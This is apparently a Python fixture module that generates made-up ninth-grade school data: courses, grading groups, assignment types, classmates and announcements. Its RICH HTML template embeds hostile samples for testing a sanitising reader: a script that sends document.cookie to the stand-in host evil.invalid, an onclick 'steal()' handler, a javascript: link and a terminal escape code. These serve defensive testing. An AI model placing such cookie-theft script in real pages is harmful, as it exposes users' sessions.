"""What the double's school is called, teaches and says: a ninth grade, made up."""

COURSES = [
    ("Algebra I", "ALG1", "Maya Okafor", True, ["Linear equations", "Slope and intercept", "Systems of equations",
                                              "Inequalities", "Exponents", "Factoring", "Quadratics", "Radicals"]),
    ("Biology", "BIO9", "Daniel Reyes", True, ["Cell structure", "Photosynthesis", "Cellular respiration", "Mitosis",
                                             "DNA replication", "Natural selection", "Food webs", "Osmosis"]),
    ("English 9", "ENG9", "Priya Raman", True, ["Romeo and Juliet", "The Odyssey", "Short stories", "Poetry",
                                              "Persuasive essay", "Grammar", "Independent reading", "Vocabulary"]),
    ("World History", "WHIST", "Thomas Lindqvist", True, ["Mesopotamia", "Ancient Egypt", "Athens and Sparta",
                                                        "The Roman Republic", "Han China", "The Silk Road",
                                                        "Feudal Japan", "The Black Death"]),
    ("Spanish I", "SPA1", "Lucía Hernández", False, ["Saludos", "La familia", "Los números", "La comida",
                                                    "Verbos en -ar", "La escuela", "El tiempo", "La casa"]),
    ("Computer Science", "CS9", "Wei Zhang", False, ["Variables", "Loops", "Conditionals", "Functions", "Lists",
                                                    "Binary numbers", "Debugging", "The internet"]),
    ("Studio Art", "ART9", "Grace Adeyemi", False, ["Contour drawing", "Perspective", "Color theory", "Portrait",
                                                   "Collage", "Printmaking", "Still life", "Sketchbook"]),
    ("Physical Education", "PE9", "Sam Novak", False, ["Fitness log", "Heart rate", "Volleyball", "Nutrition",
                                                      "Running", "Teamwork", "Stretching", "First aid"]),
]

# Name, weight, points of each of its items, rules. Dropping is exact because a group's items have equal points.
GROUPS = [
    ("Homework", 30.0, 10.0, {"drop_lowest": 1}),
    ("Quizzes", 20.0, 20.0, {"drop_lowest": 1, "drop_highest": 0}),
    ("Projects", 15.0, 50.0, {}),
    ("Tests", 35.0, 100.0, {}),
]

# In turn: group, title, how it is handed in.
KINDS = [
    ("Homework", "{} practice", ["online_text_entry"]),
    ("Quizzes", "{} quiz", ["online_quiz"]),
    ("Homework", "{} worksheet", ["online_upload"]),
    ("Projects", "{} project", ["online_upload", "online_url"]),
    ("Homework", "{} discussion", ["discussion_topic"]),
    ("Tests", "{} test", ["on_paper"]),
    ("Homework", "{} lab", ["external_tool"]),
    ("Homework", "{} reading", ["none"]),
    ("Projects", "{} presentation", ["online_url"]),
]

CLASSMATES = ["Amara Diallo", "Ben Fischer", "Chloe Nguyen", "Diego Morales", "Elif Yılmaz", "Finn O’Brien",
              "Hana Suzuki", "Isaac Cohen", "Jada Williams", "Kofi Mensah"]

# Everything that HTML from outside may bring; a reader shows text and links, and runs nothing.
RICH = (
    '<h2>{title}</h2><p>Read the <a href="/courses/{course}/pages/{topic_slug}">{topic} page</a> first, then '
    '<strong>show your work</strong>.</p>'
    '<script>document.location = "http://evil.invalid/?" + document.cookie</script><style>p {{ color: red }}</style>'
    '<table><tr><th>Part</th><th>Points</th></tr><tr><td>Method</td><td>6</td></tr><tr><td>Answer</td><td>4</td></tr>'
    '</table><img src="/courses/{course}/files/77/preview" alt="A diagram of {topic}">'
    '<img class="equation_image" data-equation-content="\\frac{{a}}{{b}} + x^2" alt="LaTeX: \\frac{{a}}{{b}} + x^2" '
    'src="/equation_images/%255Cfrac">'
    '<ul><li>Due in class &amp; online</li><li>Ask if you&#39;re stuck&nbsp;— &lt;10 minutes</li></ul>'
    '<p onclick="steal()">More: <a href="javascript:alert(1)">bad</a> '
    '<a href="https://www.example.org/{topic_slug}?a=1&amp;b=2">an article</a>\x1b[31m</p>'
    '<iframe src="https://www.youtube.com/embed/x"></iframe>')

PLAIN = "<p>{topic}: do the problems at the end of the chapter. Bring questions to class.</p>"

ANNOUNCEMENTS = [
    ("Field trip forms due Friday", "<p>Please bring the signed form to class.</p>"
     "<p><a href='https://forms.example.org/trip'>The form</a></p>"),
    ("Test moved to next week", "<p>We need one more day on <em>{topic}</em>, so the test is a week later.</p>"),
    ("Office hours on Thursday", "<p>I&rsquo;m in room 214 after school. Come with questions about {topic}.</p>"),
]

COMMENTS = ["Nice, clear work.", "Check your units in question 3.", "Good start; say more about why."]
